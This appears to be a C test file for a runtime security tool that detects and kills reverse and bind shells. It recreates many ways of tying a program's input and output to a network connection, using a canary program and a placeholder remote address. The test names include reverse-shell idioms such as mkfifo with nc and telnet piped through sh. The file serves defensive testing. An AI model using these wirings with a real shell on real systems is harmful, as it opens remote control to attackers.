/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Shells that are tied to the network, by every way that their input and output may take, and what
 * only looks so. All of it stays in a network namespace, where 192.0.2.7 is the other side. What is
 * executed is always the same canary: the names and descriptors differ, nothing is typed into it.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include "scene.h"

static const char prevent[] =
	"version: 1\n"
	"runtime:\n"
	"  - name: no shells\n"
	"    processes: {reverse_shell: prevent}\n";

#define FAR "192.0.2.7"
#define NEAR "127.0.0.1"

/* Where the connection is, and what lies between it and the program. */
enum way {
	NOTHING,   /* no connection */
	ON_0_1_2,
	ON_0_1,
	ON_0_2,    /* 1 goes to a file */
	ON_0_ONLY, /* 0 is the connection, the rest goes to a file */
	ON_1_2,    /* 0 is /dev/null */
	ON_HIGH,   /* it is open as another descriptor */
	TWO,       /* 0 is one, 1 another */
	LISTENER,  /* 0 is one that listens */
	PIPES,     /* a parent has the connection and the other ends */
	PIPE_IN,   /* ... only of the input */
	PAIR,
	TERMINAL,
	OWN_TERMINAL, /* ... and the connection is the parent's own input and output */
	OWN_PIPES,
	GRANDPARENT,  /* pipes, and a process in between */
	INHERITED,    /* pipes that the parent was given too */
};
enum side { OUTBOUND, INBOUND };

struct row {
	const char *what;
	enum side side;
	enum way way;
	const char *address;
	const char *name; /* of the program */
	const char *args[4];
	int detection; /* 0 = it runs */
};

#define REVERSE DETECTION_REVERSE_SHELL
#define BIND DETECTION_BIND_SHELL

static const struct row rows[] = {
	{"connect, dup2, exec sh", OUTBOUND, ON_0_1_2, FAR, "sh", {"-i"}, REVERSE},
	{"over IPv6", OUTBOUND, ON_0_1_2, "2001:db8::7", "bash", {"-i"}, REVERSE},
	{"over loopback", OUTBOUND, ON_0_1_2, NEAR, "dash", {0}, REVERSE},
	{"by another name", OUTBOUND, ON_0_1_2, FAR, "httpd", {0}, REVERSE},
	{"with its errors elsewhere", OUTBOUND, ON_0_1, FAR, "nginx", {0}, REVERSE},
	{"its errors only", OUTBOUND, ON_0_2, FAR, "sh", {0}, REVERSE},
	{"an interpreter", OUTBOUND, ON_0_1_2, FAR, "python3.11", {"-c", "import pty"}, REVERSE},
	{"one connection for each way", OUTBOUND, TWO, FAR, "zsh", {0}, REVERSE},
	{"a parent between, pipes", OUTBOUND, PIPES, FAR, "sh", {0}, REVERSE},
	{"pipes, interactive", OUTBOUND, PIPES, FAR, "bash", {"--norc", "-i"}, REVERSE},
	{"pipes, -s and operands", OUTBOUND, PIPES, FAR, "sh", {"-s", "a"}, REVERSE},
	{"pipes, busybox", OUTBOUND, PIPES, FAR, "busybox", {"sh", "-i"}, REVERSE},
	{"pipes, a process more between", OUTBOUND, GRANDPARENT, FAR, "sh", {0}, REVERSE},
	{"a pair of sockets", OUTBOUND, PAIR, FAR, "sh", {"-i"}, REVERSE},
	{"a terminal", OUTBOUND, TERMINAL, FAR, "bash", {"--rcfile", "/dev/null", "-i"}, REVERSE},
	{"pty.spawn", OUTBOUND, OWN_TERMINAL, NEAR, "sh", {0}, REVERSE},
	{"pty.spawn of a command", OUTBOUND, OWN_TERMINAL, FAR, "sh", {"-c", "exec sh"}, REVERSE},
	{"pipes of a shell on the connection", OUTBOUND, OWN_PIPES, FAR, "sh", {"-c", "id"}, REVERSE},
	{"listen, accept, dup2, exec sh", INBOUND, ON_0_1_2, FAR, "sh", {0}, BIND},
	{"accepted over loopback", INBOUND, ON_0_1_2, NEAR, "ash", {0}, BIND},
	{"accepted over IPv6", INBOUND, ON_0_1, "2001:db8::7", "perl5.36.0", {0}, BIND},
	{"accepted, busybox", INBOUND, ON_0_1_2, FAR, "busybox", {"sh"}, BIND},
	{"accepted, pipes", INBOUND, PIPES, FAR, "sh", {0}, BIND},
	{"accepted, a pair of sockets", INBOUND, PAIR, FAR, "bash", {"-i"}, BIND},

	{"no connection", OUTBOUND, NOTHING, FAR, "sh", {"-i"}, 0},
	{"ssh and its connection", OUTBOUND, ON_HIGH, FAR, "ssh", {0}, 0},
	{"a shell that has one open", OUTBOUND, ON_HIGH, FAR, "sh", {"-i"}, 0},
	{"another program that reads one", OUTBOUND, ON_0_ONLY, FAR, "cat", {0}, 0},
	{"a shell that reads one", OUTBOUND, ON_0_ONLY, FAR, "sh", {0}, 0},
	{"output sent away", OUTBOUND, ON_1_2, FAR, "sh", {"-c", "date"}, 0},
	{"curl | sh", OUTBOUND, PIPE_IN, FAR, "sh", {0}, 0},
	{"a tool of a client, by -c", OUTBOUND, PIPES, FAR, "sh", {"-c", "convert"}, 0},
	{"a tool of a client, a script", OUTBOUND, PAIR, FAR, "bash", {"-e", "/opt/x.sh"}, 0},
	{"another tool", OUTBOUND, PIPES, FAR, "convert", {0}, 0},
	{"a notebook's shell", OUTBOUND, TERMINAL, NEAR, "bash", {"-i"}, 0},
	{"pipes that were its parent's", OUTBOUND, INHERITED, FAR, "sh", {0}, 0},
	{"inetd starts a server", INBOUND, ON_0_1_2, FAR, "in.ftpd", {0}, 0},
	{"inetd starts cat", INBOUND, ON_0_1_2, FAR, "busybox", {"cat"}, 0},
	{"FastCGI on a listener", INBOUND, LISTENER, FAR, "perl", {0}, 0},
	{"CGI", INBOUND, PIPES, FAR, "sh", {"/srv/cgi-bin/x"}, 0},
	{"a login's terminal", INBOUND, TERMINAL, FAR, "bash", {"-l"}, 0},
};

struct play {
	const struct row *row;
	const char *path; /* of the canary under its name */
	int listener;     /* of the other side */
	int report;       /* the shell's pid and how it ended */
};

struct ended {
	pid_t pid;
	int status;
};

static socklen_t address_of(const char *text, uint16_t port, struct sockaddr_storage *a)
{
	struct sockaddr_in6 *six = (void *)a;
	struct sockaddr_in *four = (void *)a;

	memset(a, 0, sizeof(*a));
	if (inet_pton(AF_INET6, text, &six->sin6_addr) == 1) {
		six->sin6_family = AF_INET6;
		six->sin6_port = htons(port);
		return sizeof(*six);
	}
	assert_int_equal(inet_pton(AF_INET, text, &four->sin_addr), 1);
	four->sin_family = AF_INET;
	four->sin_port = htons(port);
	return sizeof(*four);
}

static int listen_at(const char *address)
{
	struct sockaddr_storage a;
	socklen_t n = address_of(address, 0, &a);
	int fd = socket(a.ss_family, SOCK_STREAM | SOCK_CLOEXEC, 0);

	if (fd < 0 || bind(fd, (struct sockaddr *)&a, n) < 0 || listen(fd, 8) < 0)
		return -1;
	return fd;
}

static int connect_to(int listener)
{
	struct sockaddr_storage a;
	socklen_t n = sizeof(a);
	int fd;

	if (getsockname(listener, (struct sockaddr *)&a, &n) < 0)
		return -1;
	fd = socket(a.ss_family, SOCK_STREAM | SOCK_CLOEXEC, 0);
	return fd >= 0 && connect(fd, (struct sockaddr *)&a, n) == 0 ? fd : -1;
}

/* The container's side of a connection; an accepted one without its listener. */
static int connection(const struct play *p)
{
	int listener, fd;

	if (p->row->side == OUTBOUND)
		return connect_to(p->listener);
	listener = listen_at(p->row->address);
	if (fork() == 0) { /* the other side, as long as there is this one */
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		connect_to(listener);
		pause();
		_exit(0);
	}
	fd = accept4(listener, NULL, NULL, SOCK_CLOEXEC);
	close(listener);
	return fd;
}

static void execute(const struct play *p)
{
	char *argv[6] = {(char *)(uintptr_t)p->row->name}, *none[] = {NULL};

	for (int i = 0; i < 4 && p->row->args[i]; i++)
		argv[i + 1] = (char *)(uintptr_t)p->row->args[i];
	execve(p->path, argv, none);
	_exit(101);
}

static void straight(const struct play *p, int fd)
{
	int null = open("/dev/null", O_RDWR | O_CLOEXEC), file = open("/dev/zero", O_RDWR | O_CLOEXEC);
	int in = fd, out = fd, err = fd;

	switch ((int)p->row->way) {
	case ON_0_1: err = file; break;
	case ON_0_2: out = file; break;
	case ON_0_ONLY: out = err = file; break;
	case ON_1_2: in = null; break;
	case ON_HIGH: fcntl(fd, F_SETFD, 0); in = out = err = null; break;
	case NOTHING: in = out = err = null; break;
	case TWO: out = connection(p); break;
	case LISTENER: in = listen_at(p->row->address); break;
	default: break;
	}
	dup2(in, 0);
	dup2(out, 1);
	dup2(err, 2);
	execute(p);
}

/* The two ends of what lies between: [0] the shell's, [1] the parent's. For input, for output. */
static int between(enum way way, int in[2], int out[2])
{
	int null = open("/dev/null", O_RDWR | O_CLOEXEC);

	switch ((int)way) {
	case PAIR:
		if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, in) < 0)
			return -1;
		out[0] = in[0];
		out[1] = in[1];
		return 0;
	case TERMINAL:
	case OWN_TERMINAL:
		in[1] = out[1] = posix_openpt(O_RDWR | O_NOCTTY | O_CLOEXEC);
		if (in[1] < 0 || grantpt(in[1]) < 0 || unlockpt(in[1]) < 0)
			return -1;
		in[0] = out[0] = open(ptsname(in[1]), O_RDWR | O_NOCTTY | O_CLOEXEC);
		return in[0] < 0 ? -1 : 0;
	default:
		if (pipe2(in, O_CLOEXEC) < 0 || pipe2(out, O_CLOEXEC) < 0)
			return -1;
		if (way == PIPE_IN)
			out[1] = null;
		int swap = out[0];
		out[0] = out[1];
		out[1] = swap;
		return 0;
	}
}

static void tell(const struct play *p, pid_t pid)
{
	struct ended e = {.pid = pid};

	if (waitpid(pid, &e.status, 0) == pid && write(p->report, &e, sizeof(e)) == sizeof(e))
		_exit(0);
	_exit(102);
}

static void child(const struct play *p, const int in[2], const int out[2])
{
	dup2(in[0], 0);
	dup2(out[0], 1);
	dup2(out[0], 2);
	if (p->row->way != GRANDPARENT)
		execute(p);
	pid_t pid = fork();
	if (pid == 0)
		execute(p);
	tell(p, pid);
}

static int run_child(void *ctx)
{
	const struct play *p = ctx;
	int fd = connection(p), in[2], out[2];
	pid_t pid;

	if (fd < 0)
		return 100;
	close(p->listener);
	if (p->row->way < PIPES) {
		straight(p, fd);
	} else if (between(p->row->way, in, out) < 0) {
		return 100;
	}
	if (p->row->way == OWN_TERMINAL || p->row->way == OWN_PIPES) {
		for (int i = 0; i < 3; i++)
			dup2(fd, i);
		close(fd);
	} else if (p->row->way == INHERITED) {
		dup2(in[0], 0);
		dup2(out[0], 1);
		close(in[1]); /* before there is a child: nobody has the other ends */
		close(out[1]);
	}
	pid = fork();
	if (pid == 0)
		child(p, in, out);
	close(in[0]);
	close(out[0]);
	if (p->row->way != GRANDPARENT)
		tell(p, pid);
	return waitpid(pid, NULL, 0) == pid ? 0 : 103;
}

/* The record of the canary, and whether it was killed. */
static const struct wire_exec *row_run(struct scene *s, const struct row *row, int number, bool *ret_killed)
{
	char folder[128], name[64];
	struct ended e = {};
	int fd[2], status;

	/* Each row has a folder of its own, so that names do not meet. */
	snprintf(folder, sizeof(folder), "%s/%d", s->folder, number);
	assert_int_equal(mkdir(folder, 0755), 0);
	snprintf(name, sizeof(name), "%d/%s", number, row->name);
	assert_int_equal(pipe2(fd, O_CLOEXEC | O_NONBLOCK), 0);
	struct play p = {.row = row, .path = scene_program(s, scene_tool("first_byte"), name), .listener = listen_at(row->address), .report = fd[1]};
	assert_true(p.listener >= 0);
	pid_t pid = scene_fork(s, run_child, &p);
	status = scene_wait(s, pid);
	if (WIFEXITED(status) && WEXITSTATUS(status) >= 100)
		fail_msg("%s: could not be played: %d", row->what, WEXITSTATUS(status));
	if (row->way < PIPES)
		e = (struct ended){pid, status};
	else if (read(fd[0], &e, sizeof(e)) != sizeof(e))
		fail_msg("%s: it was not played", row->what);
	close(fd[0]);
	close(fd[1]);
	close(p.listener);
	*ret_killed = WIFSIGNALED(e.status) && WTERMSIG(e.status) == SIGKILL;
	return scene_exec_of(s, e.pid);
}

static void each_is_told_apart(void **state)
{
	struct scene *s = *state;

	scene_policy(s, prevent);
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		bool killed;
		const struct wire_exec *e = row_run(s, &rows[i], (int)i, &killed);

		if ((int)e->header.verdict.detection != rows[i].detection)
			fail_msg("%s: detection %d instead of %d, flags %x", rows[i].what, e->header.verdict.detection,
				rows[i].detection, e->header.flags);
		if (killed != (rows[i].detection != 0))
			fail_msg("%s: %s", rows[i].what, killed ? "it was killed" : "it ran");
		if (rows[i].detection) {
			assert_int_equal(e->header.verdict.evidence, EVIDENCE_DESCRIPTOR);
			assert_int_equal(e->header.verdict.done, DONE_PREVENT);
			assert_int_not_equal(e->tie.remote_port, 0);
		}
		scene_clear(s);
	}
}

static void it_says_where_to(void **state)
{
	static const struct row row = {"", OUTBOUND, PIPES, FAR, "sh", {0}, REVERSE};
	struct scene *s = *state;
	const uint8_t far[16] = {[10] = 0xff, 0xff, 192, 0, 2, 7};
	const struct wire_exec *e;
	bool killed;

	scene_policy(s, prevent);
	e = row_run(s, &row, 900, &killed);
	assert_memory_equal(e->tie.remote, far, 16);
	assert_int_equal(e->tie.proto, IPPROTO_TCP);
	assert_int_equal(e->tie.holder, e->process.ppid);
	assert_string_equal(e->sign, "test_bpf_shells");
	assert_true(e->header.flags & WIRE_TIED_OUT);
}

/* The facts are there without a rule: one that comes later judges by them. */
static void without_a_rule(void **state)
{
	static const struct row out = {"", OUTBOUND, ON_0_1_2, FAR, "sh", {0}, 0}, in = {"", INBOUND, ON_0_1_2, FAR, "sh", {0}, 0};
	struct scene *s = *state;
	const struct wire_exec *e;
	bool killed;

	scene_policy(s, NULL);
	e = row_run(s, &out, 901, &killed);
	assert_false(killed);
	assert_int_equal(e->header.flags & (WIRE_TIED_OUT | WIRE_TIED_IN), WIRE_TIED_OUT);
	e = row_run(s, &in, 902, &killed);
	assert_false(killed);
	assert_int_equal(e->header.flags & (WIRE_TIED_OUT | WIRE_TIED_IN), WIRE_TIED_IN);
}

/* ---- chains of pipes ---- */

enum part { PART_NET, PART_SHELL, PART_OTHER };

/* Up to three processes in a row; a chain that is a ring has the last one's output as the first one's input. */
struct chain {
	const char *what;
	enum part parts[3];
	int count;
	int last; /* the part that begins after the others */
	enum side side;
	bool ring;
	int detection;
};

static const struct chain chains[] = {
	{"mkfifo, nc last", {PART_OTHER, PART_SHELL, PART_NET}, 3, 2, OUTBOUND, true, REVERSE},
	{"mkfifo, sh last", {PART_OTHER, PART_SHELL, PART_NET}, 3, 1, OUTBOUND, true, REVERSE},
	{"mkfifo, cat last", {PART_OTHER, PART_SHELL, PART_NET}, 3, 0, OUTBOUND, true, REVERSE},
	{"mkfifo, sh <f | nc >f", {PART_SHELL, PART_NET}, 2, 1, OUTBOUND, true, REVERSE},
	{"mkfifo, nc -l last", {PART_OTHER, PART_SHELL, PART_NET}, 3, 2, INBOUND, true, BIND},
	{"mkfifo, nc -l first", {PART_OTHER, PART_SHELL, PART_NET}, 3, 1, INBOUND, true, BIND},
	{"telnet | sh | telnet", {PART_NET, PART_SHELL, PART_NET}, 3, 2, OUTBOUND, false, REVERSE},
	{"telnet | sh | telnet, sh last", {PART_NET, PART_SHELL, PART_NET}, 3, 1, OUTBOUND, false, REVERSE},
	{"curl | sh", {PART_NET, PART_SHELL}, 2, 1, OUTBOUND, false, 0},
	{"curl | sh | tee", {PART_NET, PART_SHELL, PART_OTHER}, 3, 2, OUTBOUND, false, 0},
	{"sh | nc", {PART_SHELL, PART_NET}, 2, 1, OUTBOUND, false, 0},
	{"a client without a shell", {PART_OTHER, PART_OTHER, PART_NET}, 3, 2, OUTBOUND, true, 0},
};

struct piece {
	enum part part;
	enum side side;
	int in, out, listener, begin, ready;
	const char *path;
};

static int run_piece(void *ctx)
{
	const struct piece *p = ctx;
	char *argv[] = {(char *)(uintptr_t)(p->part == PART_SHELL ? "sh" : "cat"), NULL}, *none[] = {NULL}, byte;

	dup2(p->in, 0);
	dup2(p->out, 1);
	prctl(PR_SET_PDEATHSIG, SIGKILL); /* should the test fail */
	if (read(p->begin, &byte, 1) != 1)
		return 100;
	if (p->part != PART_NET)
		execve(p->path, argv, none);
	int fd = p->side == OUTBOUND ? connect_to(p->listener) : listen_at(FAR);
	int r = fd < 0 && errno == EPERM ? 2 : 0;
	if (write(p->ready, r ? "x" : ".", 1) != 1)
		return 101;
	pause();
	return 0;
}

static bool is_told(const struct wire_header *h, const void *ctx)
{
	(void)ctx;
	return h->verdict.detection != 0;
}

/* Lets the piece go on, until it has done what it does: its exec is recorded, or it says that it is connected. */
static void piece_begin(struct scene *s, pid_t pid, const struct piece *p, int begin, int ready)
{
	struct pollfd fd = {.fd = ready, .events = POLLIN};
	char byte;

	assert_int_equal(write(begin, ".", 1), 1);
	if (p->part != PART_NET)
		scene_exec_of(s, pid);
	else if (poll(&fd, 1, 5000) == 1) /* not when it was killed */
		assert_int_equal(read(ready, &byte, 1), 1);
}

static void chain_play(struct scene *s, const struct chain *c, const char *shell, const char *other)
{
	int pipes[4][2], begin[3][2], ready[3][2], null = open("/dev/null", O_RDWR | O_CLOEXEC), listener = listen_at(FAR);
	struct piece pieces[3];
	pid_t pids[3];

	for (int i = 0; i <= c->count; i++)
		assert_int_equal(pipe2(pipes[i], O_CLOEXEC), 0);
	for (int i = 0; i < c->count; i++) {
		assert_int_equal(pipe2(begin[i], O_CLOEXEC), 0);
		assert_int_equal(pipe2(ready[i], O_CLOEXEC), 0);
		pieces[i] = (struct piece){.part = c->parts[i], .side = c->side, .listener = listener, .begin = begin[i][0],
			.ready = ready[i][1], .path = c->parts[i] == PART_SHELL ? shell : other};
		pieces[i].in = i || c->ring ? pipes[i][0] : null;
		pieces[i].out = i < c->count - 1 ? pipes[i + 1][1] : c->ring ? pipes[0][1] : null;
		pids[i] = scene_fork(s, run_piece, &pieces[i]);
	}
	for (int i = 0; i < c->count; i++)
		if (i != c->last)
			piece_begin(s, pids[i], &pieces[i], begin[i][1], ready[i][0]);
	piece_begin(s, pids[c->last], &pieces[c->last], begin[c->last][1], ready[c->last][0]);
	if (c->detection) {
		const struct wire_header *h = scene_await(s, is_told, NULL);

		if (h->verdict.detection != c->detection || h->verdict.done != DONE_PREVENT)
			fail_msg("%s: detection %d, done %d", c->what, h->verdict.detection, h->verdict.done);
	}
	scene_settle(s);
	if (scene_count(s, is_told, NULL) != (c->detection != 0))
		fail_msg("%s: told %u times", c->what, scene_count(s, is_told, NULL));
	for (int i = 0; i < c->count; i++) {
		kill(pids[i], SIGKILL);
		scene_wait(s, pids[i]);
		for (int end = 0; end < 2; end++) {
			close(begin[i][end]);
			close(ready[i][end]);
		}
	}
	for (int i = 0; i <= c->count; i++) {
		close(pipes[i][0]);
		close(pipes[i][1]);
	}
	close(null);
	close(listener);
	scene_clear(s);
}

static void a_chain_that_closes(void **state)
{
	struct scene *s = *state;
	/* They wait for input that never comes: the canary ends at once, busybox does not. */
	char *shell = strdup(scene_program(s, "/bin/busybox", "sh")), *other = strdup(scene_program(s, "/bin/busybox", "cat"));

	scene_policy(s, prevent);
	scene_clear(s);
	for (size_t i = 0; i < sizeof(chains) / sizeof(chains[0]); i++)
		chain_play(s, &chains[i], shell, other);
	free(shell);
	free(other);
}

int main(void)
{
	static struct scene scene;
	struct CMUnitTest tests[] = {cmocka_unit_test(each_is_told_apart), cmocka_unit_test(it_says_where_to),
		cmocka_unit_test(without_a_rule), cmocka_unit_test(a_chain_that_closes)};
	int r;

	if (geteuid() == 0 && unshare(CLONE_NEWNET) == 0 &&
	    system("ip link set lo up && ip addr add " FAR "/32 dev lo && ip -6 addr add 2001:db8::7/128 dev lo") != 0)
		return 1;
	if (access("/dev/pts/ptmx", F_OK) < 0) { /* a machine made for tests has no terminals */
		mkdir("/dev/pts", 0755);
		mount("devpts", "/dev/pts", "devpts", 0, NULL);
	}
	r = scene_open(&scene, NULL);
	if (r)
		return r;
	for (size_t i = 0; i < sizeof(tests) / sizeof(tests[0]); i++)
		tests[i].initial_state = &scene;
	r = cmocka_run_group_tests_name("shells", tests, NULL, NULL);
	scene_close(&scene);
	return r;
}
